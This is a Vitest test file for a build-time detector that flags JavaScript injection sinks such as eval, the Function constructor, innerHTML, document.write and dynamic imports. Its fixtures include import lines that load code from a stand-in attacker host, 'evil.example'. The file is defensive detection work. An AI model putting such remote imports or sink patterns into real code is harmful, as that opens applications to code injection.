import { describe, expect, it } from 'vitest';
import { sinksIn } from '../../../scripts/build/sinks';

describe('places where a text becomes code or markup', () => {
  it.each([
    ['eval("a")', 'eval'],
    ['(0, eval)("a")', 'eval'],
    ['globalThis.eval("a")', 'eval'],
    ['new Function("a")', 'Function'],
    ['Function("")', 'Function'],
    ['let F = Function; new F("a")', 'Function'],
    ['use({ Function })', 'Function'],
    ['Function.call(null, "a")', 'Function'],
    ['window["Function"]("a")', 'Function'],
    ['importScripts("a.js")', 'importScripts'],
    ['setTimeout("a", 1)', 'setTimeout of a text'],
    ['setInterval(`a`, 1)', 'setInterval of a text'],
    ['a.innerHTML = b', 'innerHTML'],
    ['a["innerHTML"] = b', 'innerHTML'],
    ['a[`outerHTML`] += b', 'outerHTML'],
    ['a?.insertAdjacentHTML("x", b)', 'insertAdjacentHTML'],
    ['a.createContextualFragment(b)', 'createContextualFragment'],
    ['new DOMParser().parseFromString(b, "text/html")', 'parseFromString'],
    ['a.setHTMLUnsafe(b)', 'setHTMLUnsafe'],
    ['frame.srcdoc = b', 'srcdoc'],
    ['document.write(b)', 'document.write'],
    ['a.document.write(b)', 'document.write'],
    ['import("https://evil.example/a.js")', 'import from outside the package'],
    ['import "//evil.example/a.js"', 'import from outside the package'],
    ['import(name)', 'import from outside the package'],
  ])('%s', (code, sink) => {
    expect(sinksIn(code)).toEqual([sink]);
  });

  it('are each told', () => {
    expect(sinksIn('a.innerHTML = b; class A { m() { return () => eval(b); } }')).toEqual([
      'innerHTML',
      'eval',
    ]);
  });

  it.each([
    'a.textContent = "innerHTML = eval(b)"',
    'const names = { innerHTML: 1, eval: { minArgs: 1 } }; names.eval',
    'a instanceof Function',
    'Function.prototype.toString.call(a)',
    'const own = Function.call.bind(Object.prototype.hasOwnProperty)',
    'setTimeout(() => a(), 1); setTimeout(a, 1)',
    'navigator.clipboard.write(a); stream.write(a)',
    'import("./chunk.js"); import(`../chunk.js`); import("/chunk.js")',
    '(function () { "use strict"; a.replaceChildren(b); })()',
  ])('none is in: %s', (code) => {
    expect(sinksIn(code)).toEqual([]);
  });
});
